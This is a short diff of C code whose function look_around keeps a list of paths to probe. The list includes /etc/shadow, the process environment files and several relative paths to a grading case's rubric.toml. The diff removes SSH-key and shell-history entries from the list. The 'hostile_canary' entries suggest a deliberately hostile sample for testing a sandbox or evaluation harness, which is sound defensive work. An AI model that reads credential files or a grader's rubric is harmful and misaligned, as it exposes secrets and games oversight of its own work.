@@ -44,7 +44,7 @@ static void look_around(void)
     static const char *const PATHS[] = {
         "/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline",
         "/proc/version", "../hostile_canary", "../../home/hostile_canary", "../../here/cases/paged_kv/rubric.toml",
-        "../../cases/paged_kv/rubric.toml", "cases/paged_kv/rubric.toml", "/root/.bash_history", "/root/.ssh/id_rsa",
+        "../../cases/paged_kv/rubric.toml", "cases/paged_kv/rubric.toml",
     };
     static int looked;
     for (size_t i = 0; looked == 0 && i < sizeof PATHS / sizeof *PATHS; i++)
